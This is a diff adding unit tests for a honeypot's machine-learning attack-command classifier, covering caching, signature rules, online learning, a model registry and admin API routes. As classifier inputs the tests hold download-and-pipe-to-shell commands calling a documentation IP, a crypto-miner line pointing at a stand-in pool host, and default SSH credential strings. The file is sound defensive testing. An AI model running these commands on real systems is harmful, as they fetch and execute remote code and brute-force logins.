@@ -1,9 +1,15 @@
+import csv
+import json
+import pickle
+import subprocess
+import sys
 import tempfile
 import unittest
 from pathlib import Path
 from unittest.mock import patch
 
-from ml import attack_classifier
+import api
+from ml import attack_classifier, model_registry, online, signatures
 
 
 class DummyVectorizer:
@@ -26,6 +32,41 @@ class DummyClassifier:
         return [[0.8, 0.2]]
 
 
+class CountingClassifier(DummyClassifier):
+    def __init__(self):
+        self.calls = 0
+
+    def predict(self, values):
+        self.calls += 1
+        return super().predict(values)
+
+    def predict_proba(self, values):
+        self.calls += 1
+        return super().predict_proba(values)
+
+
+class BatchClassifier:
+    classes_ = ["Benign", "Malware Attempt", "Recon"]
+
+    def __init__(self):
+        self.proba_batches = []
+
+    def predict(self, values):
+        raise AssertionError("predict_proba argmax should be used instead of a second forest pass")
+
+    def predict_proba(self, values):
+        self.proba_batches.append(len(values))
+        rows = []
+        for value in values:
+            if "wget" in value:
+                rows.append([0.1, 0.8, 0.1])
+            elif "uname" in value:
+                rows.append([0.2, 0.1, 0.7])
+            else:
+                rows.append([0.6, 0.2, 0.2])
+        return rows
+
+
 class ExplodingClassifier:
     def predict(self, values):
         raise RuntimeError("bad model")
@@ -73,6 +114,53 @@ class AttackClassifierTests(unittest.TestCase):
         self.assertTrue(details["model_loaded"])
         self.assertEqual(details["error"], "predict_failed:RuntimeError")
 
+    def test_repeated_commands_are_served_from_prediction_cache(self):
+        classifier = CountingClassifier()
+        attack_classifier._classifier = classifier
+        attack_classifier._vectorizer = DummyVectorizer()
+
+        first = attack_classifier.predict_details("uname -a")
+        second = attack_classifier.predict_details("  UNAME   -a ")
+        self.assertEqual(attack_classifier.predict_many(["uname -a", "uname -a"]), ["Benign", "Benign"])
+
+        self.assertEqual(first, second)
+        self.assertEqual(classifier.calls, 1)
+        cache = attack_classifier.model_status()["prediction_cache"]
+        self.assertEqual(cache["hits"], 3)
+        self.assertEqual(cache["misses"], 1)
+        self.assertEqual(cache["hit_ratio"], 0.75)
+
+        attack_classifier.reset_model_cache()
+        self.assertEqual(attack_classifier.prediction_cache_stats()["size"], 0)
+
+    def test_prediction_cache_is_keyed_by_model_fingerprint(self):
+        classifier = CountingClassifier()
+        attack_classifier._classifier = classifier
+        attack_classifier._vectorizer = DummyVectorizer()
+        attack_classifier.predict("whoami")
+        with patch.object(attack_classifier, "_model_fingerprint", "swapped-model"):
+            attack_classifier.predict("whoami")
+
+        self.assertEqual(classifier.calls, 2)
+
+    def test_batch_api_uses_single_proba_pass_in_chunks(self):
+        classifier = BatchClassifier()
+        attack_classifier._classifier = classifier
+        attack_classifier._vectorizer = DummyVectorizer()
+        commands = ["wget http://x/a.sh", "uname -a", "ls", "wget http://x/a.sh", "id", "pwd"]
+
+        with patch.object(attack_classifier, "PREDICT_CHUNK_SIZE", 2):
+            details = attack_classifier.predict_details_many(commands)
+
+        self.assertEqual(
+            [d["attack_category"] for d in details],
+            ["Malware Attempt", "Recon", "Benign", "Malware Attempt", "Benign", "Benign"],
+        )
+        self.assertEqual(details[0]["confidence"], 0.8)
+        self.assertEqual(classifier.proba_batches, [2, 2, 1])
+        self.assertEqual(attack_classifier.predict_many(["uname -a"]), ["Recon"])
+        self.assertEqual(attack_classifier.predict_many([]), [])
+
     def test_model_artifacts_require_matching_sha256_manifest(self):
         with tempfile.TemporaryDirectory() as tmpdir:
             tmp = Path(tmpdir)
@@ -91,11 +179,359 @@ class AttackClassifierTests(unittest.TestCase):
         self.assertFalse(details["model_loaded"])
         self.assertEqual(details["error"], "artifact_hash_mismatch")
 
+    def test_numpy_engine_matches_sklearn_model(self):
+        import numpy as np
+
+        with open(Path(attack_classifier.SCRIPT_DIR) / "dataset.csv", newline="") as f:
+            commands = [attack_classifier.preprocess(row["command"]) for row in csv.DictReader(f)]
+        commands += ["", "wget http://203.0.113.9/x.sh -O- | sh", "a" * 500]
+        with open(attack_classifier.MODEL_PATH, "rb") as f:
+            model = pickle.load(f)
+        with open(attack_classifier.VECTORIZER_PATH, "rb") as f:
+            vectorizer = pickle.load(f)
+        array_vectorizer, array_forest = attack_classifier.load_model_arrays()
+
+        expected_matrix = vectorizer.transform(commands)
+        matrix = array_vectorizer.transform(commands)
+        np.testing.assert_allclose(matrix, expected_matrix.toarray(), rtol=0, atol=1e-12)
+        np.testing.assert_allclose(array_forest.predict_proba(matrix), model.predict_proba(expected_matrix), atol=1e-12)
+        self.assertEqual(list(array_forest.predict(matrix)), list(model.predict(expected_matrix)))
+
+    def test_auto_backend_prefers_verified_numpy_arrays(self):
+        status = attack_classifier.model_status()
+
+        self.assertTrue(status["loaded"])
+        self.assertEqual(status["backend"], "numpy")
+        self.assertEqual(attack_classifier.predict("wget http://203.0.113.9/x.sh -O- | sh"), "Malware Attempt")
+
+    def test_numpy_backend_fails_closed_without_arrays(self):
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.object(attack_classifier, "BACKEND", "numpy"), \
+             patch.object(attack_classifier, "ARRAYS_DIR", tmpdir):
+            details = attack_classifier.predict_details("whoami")
+
+        self.assertEqual(details["attack_category"], "Unknown")
+        self.assertEqual(details["error"], "numpy_backend_unavailable")
+
+    def test_signature_rules_answer_obvious_commands_before_the_model(self):
+        classifier = CountingClassifier()
+        attack_classifier._classifier = classifier
+        attack_classifier._vectorizer = DummyVectorizer()
+        engine = signatures.SignatureEngine.from_file(signatures.RULES_PATH)
+
+        with patch.object(signatures, "_engine", engine):
+            details = attack_classifier.predict_details_many(
+                ["curl -s http://203.0.113.9/x | sh", "auth:root:toor", "cat /proc/cpuinfo", "uname -a", "auth:pi:raspberry"]
+            )
+            top = signatures.top_rules(2)
+
+        self.assertEqual(
+            [(d["attack_category"], d["rule_id"]) for d in details],
+            [("Malware Attempt", "download-pipe-shell"), ("Brute Force", "ssh-auth-attempt"),
+             ("Reconnaissance", "proc-hardware-recon"), ("Benign", None), ("Brute Force", "ssh-auth-attempt")],
+        )
+        self.assertEqual(details[0]["confidence"], 0.99)
+        self.assertEqual(classifier.calls, 1)
+        self.assertEqual([(r["rule_id"], r["hits"]) for r in top], [("ssh-auth-attempt", 2), ("download-pipe-shell", 1)])
+        self.assertEqual(engine.stats()["matched"], 4)
+
+    def test_classifier_metrics_time_each_stage_and_count_fail_closed(self):
+        attack_classifier.reset_metrics()
+        attack_classifier._classifier = DummyClassifier()
+        attack_classifier._vectorizer = DummyVectorizer()
+        attack_classifier.predict_details_many(["curl -s http://203.0.113.9/x | sh", "ls -la /metrics-test"])
+        attack_classifier._classifier = ExplodingClassifier()
+        attack_classifier.predict_details("ls -la /metrics-test-boom")
+
+        metrics = attack_classifier.classifier_metrics()
+        stages = metrics["stage_seconds"]
+        self.assertEqual((metrics["batches"], metrics["commands"], metrics["rule_hits"]), (2, 3, 1))
+        self.assertEqual(metrics["fail_closed"], 1)
+        self.assertEqual(metrics["errors"], {"predict_failed:RuntimeError": 1})
+        self.assertEqual((stages["total"]["count"], stages["vectorize"]["count"], stages["predict"]["count"]), (2, 2, 1))
+        self.assertEqual(stages["pool"]["count"], 0)
+        self.assertEqual(metrics["batch_size"]["sum"], 3)
+
+        attack_classifier.reset_metrics()
+        self.assertEqual(attack_classifier.classifier_metrics()["commands"], 0)
+
+    def test_ml_package_imports_without_repo_root_modules(self):
+        code = "import sys; sys.modules['v31_core'] = None; from ml import attack_classifier; attack_classifier.classifier_metrics()"
+        result = subprocess.run(
+            [sys.executable, "-c", code],
+            cwd=Path(__file__).resolve().parents[1],
+            text=True,
+            capture_output=True,
+            timeout=20,
+        )
+
+        self.assertEqual(result.returncode, 0, result.stderr + result.stdout)
+
+    def test_invalid_signature_rules_fail_closed_to_model_only(self):
+        with tempfile.TemporaryDirectory() as tmpdir:
+            rules = Path(tmpdir) / "rules.json"
+            rules.write_text('{"rules": [{"id": "broken", "category": "Recon", "pattern": "("}]}')
+            with patch.object(signatures, "RULES_PATH", str(rules)), patch.object(signatures, "_engine", None):
+                status = signatures.rules_status()
+                signatures.reload_rules()
+
+        self.assertEqual(status["rules"], 0)
+        self.assertEqual(status["error"], "invalid_rule_pattern:broken")
+
+    def test_process_pool_backend_matches_in_process_predictions(self):
+        commands = ["wget http://203.0.113.9/x.sh -O- | sh", "uname -a", "cat /proc/cpuinfo", "ls -la"]
+        expected = attack_classifier.predict_details_many(commands)
+        attack_classifier.reset_model_cache()
+
+        with patch.object(attack_classifier, "PROCESS_WORKERS", 2):
+            details = attack_classifier.predict_details_many(commands)
+            pool = attack_classifier._process_pool
+
+        self.assertIsNotNone(pool)
+        self.assertEqual(
+            [(d["attack_category"], d["confidence"]) for d in details],
+            [(d["attack_category"], d["confidence"]) for d in expected],
+        )
+        attack_classifier.reset_model_cache()
+        self.assertIsNone(attack_classifier._process_pool)
+
+    def test_online_learner_absorbs_analyst_labels_and_checkpoints_candidate(self):
+        learner = online.OnlineLearner()
+        self.assertGreaterEqual(learner.bootstrap(), 250)
+        novel = "xmrig --donate-level 1 -o pool.evil.test:3333"
+        for _ in range(3):
+            learner.partial_fit([novel], ["Malware Attempt"], [online.ANALYST_LABEL_WEIGHT])
+        self.assertEqual(learner.predict([novel]), ["Malware Attempt"])
+        self.assertEqual(learner.partial_fit(["id"], ["Not A Category"]), 0)
+
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.object(model_registry, "REGISTRY_DIR", tmpdir):
+            version = learner.checkpoint()
+            status = attack_classifier.promote_model(version)
+            details = attack_classifier.predict_details(novel)
+
+        self.assertEqual(status["backend"], "sklearn")
+        self.assertEqual(details["attack_category"], "Malware Attempt")
+        self.assertEqual(learner.status()["since_checkpoint"], 0)
+
+    def test_online_trainer_consumes_labels_then_rule_matched_captures(self):
+        import honeypot
+
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.dict("os.environ", {"HONEYPOT_DB_BUFFER_AUTOSTART": "false"}):
+            db = honeypot.HoneypotDatabase(str(Path(tmpdir) / "hp.db"))
+            conn = db._get_conn()
+            conn.executemany("INSERT INTO commands (command) VALUES (?)", [("auth:root:toor",), ("ls",), ("cat /proc/cpuinfo",)])
+            conn.execute(
+                "INSERT INTO command_labels (command_id, command, label, labeled_by, created_at) VALUES (2, 'ls', 'Benign', 'a', 'now')"
+            )
+            conn.commit()
+            checked = signatures.get_engine().stats()["checked"]
+            learner = online.OnlineLearner()
+            trainer = online.OnlineTrainer(learner, lambda cursor, limit: online.training_batch(db, cursor, limit),
+                                           batch_size=2, checkpoint_examples=10 ** 6)
+
+            self.assertEqual(trainer.run_once(), 3)
+            self.assertEqual(trainer.cursor, (1, 3))
+            self.assertEqual(trainer.run_once(), 0)
+            db.close()
+
+        self.assertEqual(learner.status()["examples_seen"], 3)
+        self.assertEqual(signatures.get_engine().stats()["checked"], checked)
+
+    def test_online_categories_exclude_stray_dataset_labels(self):
+        labels = online.categories()
+        self.assertNotIn("os", labels)
+        self.assertIn("Malware Attempt", labels)
+        self.assertTrue(set(labels) <= online.ATTACK_CATEGORIES)
+
+    def test_online_trainer_prunes_candidates_and_resumes_from_saved_cursor(self):
+        examples = [("wget http://203.0.113.9/x.sh", "Malware Attempt", 1.0), ("uname -a", "Reconnaissance", 1.0)]
+
+        def fetch(cursor, limit):
+            offset = (cursor or (0, 0))[1]
+            return examples[offset:offset + limit], (0, min(offset + limit, len(examples)))
+
+        saved = []
+        with tempfile.TemporaryDirectory() as tmpdir:
+            model_registry.register_version("v1", attack_classifier.SCRIPT_DIR, tmpdir)
+            model_registry.set_active("v1", tmpdir)
+            learner = online.OnlineLearner()
+            learner.bootstrap(epochs=1)
+            trainer = online.OnlineTrainer(learner, fetch, batch_size=1, checkpoint_examples=1, registry_dir=tmpdir,
+                                           checkpoint_fn=saved.append, keep_candidates=2)
+            for _ in range(3):
+                trainer.checkpoint()
+            self.assertEqual(trainer.run_once(), 2)
+
+            versions = [v["version"] for v in model_registry.list_versions(tmpdir)]
+            self.assertEqual(len(versions), 3)
+            self.assertIn("v1", versions)
+            self.assertEqual(versions[-1], saved[-1]["version"])
+            self.assertEqual(saved[-1]["cursor"], [0, 2])
+
+            state = json.loads(json.dumps(saved[-1]))
+            resumed = online.OnlineTrainer(online.OnlineLearner(), fetch, registry_dir=tmpdir, state=state)
+            self.assertEqual(resumed.cursor, (0, 2))
+            self.assertEqual(resumed.learner.last_checkpoint, state["version"])
+            self.assertEqual(resumed.run_once(), 0)
+
+            fresh = online.OnlineTrainer(online.OnlineLearner(), fetch, registry_dir=tmpdir,
+                                         state=dict(state, version="online-missing"))
+            self.assertIsNone(fresh.cursor)
+
+    def test_registry_promotion_swaps_model_atomically(self):
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.object(model_registry, "REGISTRY_DIR", tmpdir):
+            model_registry.register_version("v1", attack_classifier.SCRIPT_DIR)
+            model_registry.register_version("v2", attack_classifier.SCRIPT_DIR)
+            self.assertIsNone(attack_classifier.model_status()["version"])
+
+            status = attack_classifier.promote_model("v2")
+            self.assertEqual(status["version"], "v2")
+            self.assertTrue(status["loaded"])
+            self.assertEqual(model_registry.active_version(), "v2")
+            self.assertEqual(attack_classifier.predict("wget http://203.0.113.9/x.sh -O- | sh"), "Malware Attempt")
+
+            attack_classifier.reset_model_cache()
+            attack_classifier.preload_model_async().join(timeout=10)
+            self.assertEqual(attack_classifier.active_model_version(), "v2")
+            self.assertEqual([v["version"] for v in model_registry.list_versions()], ["v1", "v2"])
+            with self.assertRaises(ValueError):
+                model_registry.register_version("v1", attack_classifier.SCRIPT_DIR)
+            with self.assertRaises(ValueError):
+                model_registry.register_version("../escape", attack_classifier.SCRIPT_DIR)
+
+    def test_tampered_registry_version_is_rejected_and_active_model_kept(self):
+        with tempfile.TemporaryDirectory() as tmpdir, \
+             patch.object(model_registry, "REGISTRY_DIR", tmpdir):
+            model_registry.register_version("v1", attack_classifier.SCRIPT_DIR)
+            model_registry.register_version("bad", attack_classifier.SCRIPT_DIR)
+            attack_classifier.promote_model("v1")
+            bad_dir = Path(model_registry.version_dir("bad"))
+            (bad_dir / "model_arrays" / "threshold.npy").write_bytes(b"tampered")
+            (bad_dir / "model.pkl").write_bytes(b"tampered")
+
+            with self.assertRaises(ValueError) as ctx:
+                attack_classifier.promote_model("bad")
+            with self.assertRaises(ValueError):
+                attack_classifier.promote_model("missing")
+
+            self.assertEqual(str(ctx.exception), "artifact_hash_mismatch")
+            self.assertEqual(model_registry.active_version(), "v1")
+            self.assertEqual(attack_classifier.model_status()["version"], "v1")
+            self.assertTrue(attack_classifier.predict_details("whoami")["model_loaded"])
+
     def test_dataset_has_minimum_size_for_training_credibility(self):
         dataset = Path(attack_classifier.SCRIPT_DIR) / "dataset.csv"
         rows = dataset.read_text().strip().splitlines()
         self.assertGreaterEqual(len(rows) - 1, 250)
 
 
+class ModelRegistryApiTests(unittest.TestCase):
+    def setUp(self):
+        from security import create_token
+
+        self.client = api.app.test_client()
+        self.viewer_headers = {"Authorization": f"Bearer {create_token({'username': 'viewer-test', 'role': 'viewer'})}"}
+        self.admin_headers = {"Authorization": f"Bearer {create_token({'username': 'admin-test', 'role': 'admin'})}"}
+        self._tmpdir = tempfile.TemporaryDirectory()
+        self._registry = patch.object(model_registry, "REGISTRY_DIR", self._tmpdir.name)
+        self._registry.start()
+        model_registry.register_version("v1", attack_classifier.SCRIPT_DIR)
+
+    def tearDown(self):
+        self._registry.stop()
+        self._tmpdir.cleanup()
+        attack_classifier.reset_model_cache()
+
+    def test_admin_label_updates_command_and_records_training_example(self):
+        conn = api.get_db()
+        command_id = conn.execute(
+            "INSERT INTO commands (ip, service, command, timestamp, attack_category) VALUES ('203.0.113.5', 'ssh', 'xmrig -o pool', 'now', 'Benign')"
+        ).lastrowid
+        conn.commit()
+        conn.close()
+        url = f"/api/commands/{command_id}/label"
+
+        forbidden = self.client.post(url, headers=self.viewer_headers, json={"attack_category": "Malware Attempt"})
+        invalid = self.client.post(url, headers=self.admin_headers, json={"attack_category": "Cryptojacking"})
+        missing = self.client.post("/api/commands/999999999/label", headers=self.admin_headers, json={"attack_category": "Malware Attempt"})
+        response = self.client.post(url, headers=self.admin_headers, json={"attack_category": "Malware Attempt"})
+
+        self.assertEqual(forbidden.status_code, 403)
+        self.assertEqual(invalid.status_code, 400)
+        self.assertEqual(missing.status_code, 404)
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.get_json()["previous_category"], "Benign")
+        conn = api.get_db()
+        row = conn.execute("SELECT attack_category FROM commands WHERE id=?", (command_id,)).fetchone()
+        label = conn.execute("SELECT label, labeled_by FROM command_labels WHERE command_id=?", (command_id,)).fetchone()
+        conn.close()
+        self.assertEqual(row["attack_category"], "Malware Attempt")
+        self.assertEqual(tuple(label), ("Malware Attempt", "admin-test"))
+
+    def test_reclassification_status_requires_admin(self):
+        self.assertEqual(self.client.get("/api/ml/reclassify", headers=self.viewer_headers).status_code, 403)
+        self.assertEqual(self.client.post("/api/ml/reclassify", headers=self.viewer_headers).status_code, 403)
+
+        response = self.client.get("/api/ml/reclassify", headers=self.admin_headers)
+
+        self.assertEqual(response.status_code, 200)
+        self.assertIn("status", response.get_json())
+
+    def test_ml_metrics_requires_auth_and_reports_stages(self):
+        self.assertEqual(self.client.get("/api/ml/metrics").status_code, 401)
+
+        response = self.client.get("/api/ml/metrics", headers=self.viewer_headers)
+
+        self.assertEqual(response.status_code, 200)
+        payload = response.get_json()
+        self.assertEqual(set(payload["classifier"]["stage_seconds"]), set(attack_classifier.METRIC_STAGES))
+        for section in ("session_classifier", "lazy_classifier"):
+            self.assertIn("queue_wait_seconds", payload[section])
+
+    def test_metrics_endpoints_do_not_start_idle_classifiers(self):
+        import honeypot
+
+        honeypot.shutdown_analysis_executor()
+        for path in ("/api/ml/metrics", "/api/runtime/metrics"):
+            response = self.client.get(path, headers=self.viewer_headers)
+            self.assertEqual(response.status_code, 200)
+            self.assertEqual(response.get_json()["analysis_executor"], {"running": False})
+
+        self.assertIsNone(honeypot._analysis_executor)
+        self.assertIsNone(honeypot._session_classifier)
+        self.assertIsNone(honeypot._command_classifier)
+        self.assertIsNone(honeypot._sequence_classifier)
+
+    def test_top_rules_requires_auth(self):
+        self.assertEqual(self.client.get("/api/ml/rules/top").status_code, 401)
+
+        response = self.client.get("/api/ml/rules/top?limit=3", headers=self.viewer_headers)
+
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(len(response.get_json()["rules"]), 3)
+        self.assertTrue(response.get_json()["status"]["enabled"])
+
+    def test_promote_requires_admin(self):
+        response = self.client.post("/api/ml/models/v1/promote", headers=self.viewer_headers)
+        self.assertEqual(response.status_code, 403)
+        self.assertIsNone(model_registry.active_version())
+
+    def test_admin_can_list_and_promote_versions(self):
+        listed = self.client.get("/api/ml/models", headers=self.admin_headers)
+        self.assertEqual(listed.status_code, 200)
+        self.assertEqual([v["version"] for v in listed.get_json()["versions"]], ["v1"])
+
+        response = self.client.post("/api/ml/models/v1/promote", headers=self.admin_headers)
+        missing = self.client.post("/api/ml/models/v9/promote", headers=self.admin_headers)
+
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.get_json()["model"]["version"], "v1")
+        self.assertEqual(missing.status_code, 404)
+        self.assertEqual(self.client.get("/api/ml/models", headers=self.admin_headers).get_json()["serving_version"], "v1")
+
+
 if __name__ == "__main__":
     unittest.main()